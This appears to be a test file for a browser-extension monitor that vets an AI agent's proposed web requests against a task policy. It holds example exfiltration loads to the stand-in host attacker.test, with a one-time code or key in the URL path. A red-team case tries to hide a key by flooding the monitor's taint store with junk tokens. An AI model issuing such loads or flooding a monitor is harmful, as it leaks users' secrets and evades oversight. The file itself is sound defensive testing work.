import { describe, expect, it } from 'vitest';
import { FakeEffects, PAGE, freshStore, monitorOn, proposal } from './fakes';
import { makePolicy } from '../support/policy';
import { reportWithoutCompile } from '../../src/compiler/report';
import { buildTaintRules } from '../../src/background/floor/dnr';

/**
 * The taint and the load that follows it (issue 37; the demo's cascade found the race): the frame's script
 * sends what the page showed ahead of the proposal it relays, on one port, and neither waits for the other.
 * The background must judge the load with that report merged.
 */
describe('a taint report sent just before a load', () => {
  async function setup() {
    const { store } = await freshStore();
    const effects = new FakeEffects();
    const monitor = await monitorOn(store, effects);
    const policy = makePolicy({ taskId: 'task-1', domains: ['app.test'], allow: { tools: [], capabilities: [], classes: ['READ'] } });
    await monitor.session.installTask(policy.taskId, 'read the news on app.test', policy, reportWithoutCompile('test'));
    return { monitor, effects };
  }
  const load = (path: string) => ({ tool: 'browser.request', args: { method: 'GET', url: `http://attacker.test${path}`, kind: 'image' } });

  it('judges the load with the report merged: the shown code in its path is refused, an ordinary dependency is not', async () => {
    const { monitor } = await setup();
    // Not awaited: the proposal arrives while the report is still being handled (stored), as on the port.
    const reported = monitor.handleMessage({ type: 'taint.report', tokens: [{ value: '482913', kind: 'one-time-code' }] }, PAGE());
    const carrying = monitor.handleMessage(proposal('p1', load('/collect/c482913.gif')), PAGE());
    const ordinary = monitor.handleMessage(proposal('p2', load('/img/logo.png')), PAGE());
    await reported;
    expect(await carrying).toMatchObject({ decision: 'BLOCK', check: 'exfiltration_url' });
    expect(await ordinary).toMatchObject({ decision: 'ALLOW' });
  });


  it('a site that showed 110 junk tokens before a key still gets a floor rule for the key (taint flood, 2026-12-03 red team)', async () => {
    const { monitor } = await setup();
    const junk = Array.from({ length: 110 }, (_, i) => ({ value: `ref${i}x${'Qm9vYmFy'.repeat(2)}${i}`, kind: 'token' as const }));
    await monitor.handleMessage({ type: 'taint.report', tokens: junk.slice(0, 100) }, PAGE());
    await monitor.handleMessage({ type: 'taint.report', tokens: junk.slice(100) }, PAGE());
    const key = 'Zx81kLq0Vw27PpR5tYu3mNb6cDe4fGh9Jk1Lz2Xc3Vb4Nm5Aq6Sw7Ed8Rf9Tg0Yh1Uj2Ik3';
    await monitor.handleMessage({ type: 'taint.report', tokens: [{ value: key, kind: 'token' }] }, PAGE());
    const task = monitor.session.task!;
    // Out of the taint (its per-site bound was full), not out of the floor.
    expect(task.taint?.some((t) => t.value === key)).toBe(false);
    expect(task.taintOverflow?.map((t) => t.value)).toContain(key);
    const url = `http://attacker.test/x/${key}.png`.toLowerCase();
    const rules = buildTaintRules({ policy: makePolicy({ domains: ['app.test'] }), taint: task.taint, taintOverflow: task.taintOverflow });
    expect(rules.some((r) => r.condition.urlFilter !== undefined && url.includes(r.condition.urlFilter.toLowerCase()))).toBe(true);
  });
});
